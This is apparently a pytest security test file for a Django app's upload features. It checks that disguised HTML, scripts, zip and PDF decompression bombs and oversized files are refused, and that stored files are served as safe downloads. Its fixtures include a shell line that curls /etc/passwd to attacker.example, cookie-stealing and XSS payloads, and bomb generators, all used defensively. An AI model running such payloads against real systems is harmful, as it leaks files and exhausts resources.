"""Uploads across the application: an HTML page or a script disguised as a PDF, an oversized file
and a zip bomb are refused and leave nothing behind; a PDF's embedded credential that would
decompress without end is refused without exhausting memory; a stored file is only ever served as
a download that a browser cannot run, under a sanitised name.

(Each upload form has its own, fuller tests beside its app; this file attacks them all the same
way.)"""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from qme.positions.models import RequestAttachment
from qme.training.models import ItemRecord
from tests.positions.factories import draft_request
from tests.training.conftest import catalogue, rules
from tests.training.factories import approved_plan, traineeship_of

__all__ = ["catalogue", "rules"]

pytestmark = pytest.mark.django_db

HTML = b"<!doctype html><html><body><script>fetch('/api/v1/me')</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl https://attacker.example/$(cat /etc/passwd)\n"
JS = b"alert(document.cookie)//%PDF-1.4"


def _zip_bomb() -> bytes:
    """A small zip whose one member inflates to 200 MB of zeros."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z,
        z.open("zeros.pdf", "w", force_zip64=True) as member,
    ):
        chunk = b"\0" * (1 << 20)
        for _ in range(200):
            member.write(chunk)
    return buffer.getvalue()


def _pdf_bomb() -> bytes:
    """A PDF whose embedded file `credential.json` is one Flate stream that inflates to 200 MB."""
    compressed = zlib.compress(b" " * (200 << 20), 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>",
        b"<< /Names [(credential.json) 5 0 R] >>",
        b"<< /Type /Filespec /F (credential.json) /UF (credential.json) /EF << /F 6 0 R >> >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    offsets.append(out.tell())
    out.write(
        b"6 0 obj\n<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(compressed)
    )
    out.write(compressed + b"\nendstream\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 7\n0000000000 65535 f \n")
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


BAD_FILES = {
    "html-as-pdf": ("report.pdf", HTML),
    "script-as-pdf": ("report.pdf", SCRIPT),
    "javascript-as-pdf": ("report.pdf", JS),
    "zip-bomb-as-pdf": ("report.pdf", _zip_bomb()),
    "oversized-pdf": ("report.pdf", b"%PDF-1.7\n" + b"0" * (10 * 1024 * 1024 + 1)),
}


def _files_on_disk() -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


@pytest.mark.parametrize("kind", BAD_FILES)
def test_a_request_attachment_is_refused(world, client_for, kind):
    name, content = BAD_FILES[kind]
    request = draft_request(world)
    response = client_for(world.coordinator_a).post(
        f"/requests/{request.pk}/attachments/",
        {"file": SimpleUploadedFile(name, content, content_type="application/pdf")},
        follow=True,
    )
    assert response.status_code == 200
    assert not RequestAttachment.objects.exists()
    assert _files_on_disk() == []


@pytest.mark.parametrize("kind", BAD_FILES)
def test_evidence_is_refused(world, client_for, rules, catalogue, kind):
    name, content = BAD_FILES[kind]
    traineeship = traineeship_of(world)
    item = approved_plan(traineeship, catalogue).items.order_by("pk").first()
    response = client_for(world.trainee_a).post(
        f"/training/{traineeship.pk}/items/{item.pk}/record/",
        {
            "completed_on": traineeship.start_date.isoformat(),
            "note": "Done.",
            "evidence": SimpleUploadedFile(name, content, content_type="application/pdf"),
        },
    )
    assert response.status_code == 200
    assert "evidence" in response.context["form"].errors
    assert not ItemRecord.objects.exists()
    assert _files_on_disk() == []


@pytest.mark.parametrize(
    ("name", "content"),
    [("diploma.pdf", _pdf_bomb()), ("diploma.json", _zip_bomb()), ("diploma.pdf", HTML)],
    ids=["pdf-bomb", "zip-bomb", "html"],
)
def test_the_public_verification_refuses_a_hostile_upload_with_a_reason(
    client, settings, tmp_path, name, content
):
    settings.QME_SIGNING_KEY_DIR = tmp_path / "keys"
    client.cookies["qme_language"] = "en"
    response = client.post("/verify/", {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 200
    page = response.content.decode()
    assert "verdict-valid" not in page
    assert "Invalid" in page or "cannot" in page or "not" in page


def test_a_stored_pdf_is_served_as_a_download_that_cannot_run(world, client_for):
    """Even a file that begins like a PDF and carries HTML after it (a polyglot) is sent as an
    attachment, typed as PDF, not to be sniffed, and sandboxed."""
    request = draft_request(world)
    polyglot = b"%PDF-1.4\n" + HTML
    client = client_for(world.coordinator_a)
    client.post(
        f"/requests/{request.pk}/attachments/",
        {"file": SimpleUploadedFile("<img src=x onerror=alert(1)>.pdf", polyglot)},
    )
    attachment = RequestAttachment.objects.get()
    response = client.get(f"/requests/{request.pk}/attachments/{attachment.pk}/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "<" not in response["Content-Disposition"]
    assert attachment.original_name == "_img src=x onerror=alert(1)_.pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    stored = Path(attachment.file.path)
    assert stored.suffix == ".pdf"
    assert "<" not in stored.name
    assert str(stored).startswith(str(Path(settings.MEDIA_ROOT)))
